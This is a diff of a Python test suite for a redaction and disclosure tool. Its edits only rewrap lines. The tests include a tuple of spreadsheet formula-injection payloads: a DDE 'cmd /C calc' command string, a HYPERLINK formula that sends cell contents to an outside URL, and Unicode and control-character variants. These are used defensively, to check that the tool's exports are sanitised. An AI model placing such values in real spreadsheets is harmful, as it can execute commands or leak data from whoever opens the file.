@@ -30,7 +30,8 @@ NO_NETWORK = Path(__file__).resolve().parents[2] / "support" / "no_network"
 _KINDS = ("xlsx", "xls", "ods")
 PAYLOADS = (
     '=HYPERLINK("https://example.org/?"&A1,"look")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
-    "\x00=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1", "\u200b=1+1", "\ufeff=1+1", "=cmd|' /C calc'!A0",
+    "\x00=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
+    " =1+1", "\u200b=1+1", "\ufeff=1+1", "=cmd|' /C calc'!A0",
 )  # fmt: skip
 _RUNS = tuple("=+-@\t\r\n\0＝＋－＠")
 
@@ -135,9 +136,11 @@ def test_c14_files_are_made_in_folders_of_ones_own_and_nowhere_else(tmp_path: Pa
     form, key = request(tmp_path), key_file(tmp_path)
     done = subprocess.run(
         ["strace", "-f", "-qq", "-y", "-e", "trace=openat,open,creat,mkdir,mkdirat", "-o", trace,
-         sys.executable, "-m", "redactkit", "disclose", form, *exports, "--out", tmp_path / "OUT", "--as-of", DAY,
+         sys.executable, "-m", "redactkit", "disclose", form, *exports, "--as-of", DAY,
+         "--out", tmp_path / "OUT",
          "--key", key, "--home", tmp_path / "home", "--quiet"],
-        env={**os.environ, "TMPDIR": str(temporary), "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": str(NO_NETWORK)},
+        env={**os.environ, "TMPDIR": str(temporary), "PYTHONDONTWRITEBYTECODE": "1",
+             "PYTHONPATH": str(NO_NETWORK)},
         check=False, capture_output=True, timeout=300,
     )  # fmt: skip
     assert done.returncode == 0, done.stderr
@@ -291,7 +294,8 @@ def test_c27_a_policy_of_ones_own_is_named_and_not_copied(tmp_path: Path) -> Non
     name = town.patrons[0].name.split(", ")[0]
     own = tmp_path / "our-town.yaml"
     own.write_text(
-        f"# written when {name} complained\nextends: ma-duxbury\nid: our-town\nrules:\n  - id: OT-1\n    step: 6\n"
+        f"# written when {name} complained\nextends: ma-duxbury\nid: our-town\nrules:\n  - id: OT-1\n"
+        "    step: 6\n"
         f"    after: DX-08\n    when: {{asker: union}}\n    outcome: refuse\n    basis: gap\n"
         f"    because: this town gives nothing to {name}\n",
         encoding="utf-8",
